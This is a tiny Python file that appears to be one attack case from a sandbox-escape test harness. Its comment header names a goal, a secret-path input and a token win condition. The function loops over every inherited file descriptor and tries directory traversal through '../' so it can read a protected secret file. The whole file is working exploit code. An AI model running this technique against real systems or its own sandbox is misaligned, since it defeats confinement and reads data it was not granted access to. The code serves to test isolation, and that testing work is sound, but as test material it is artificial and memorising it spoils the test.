#: tries = "walk out through any directory descriptor that was inherited"
#: inputs = [["{secret_path}"]]
#: wins = ["{token}"]
import posix


def f(path):
    for fd in range(1024):
        for way in (path, "../" * 20 + path[1:]):
            try:
                return posix.read(posix.open(way, posix.O_RDONLY, dir_fd=fd), 100).decode()
            except OSError:
                pass
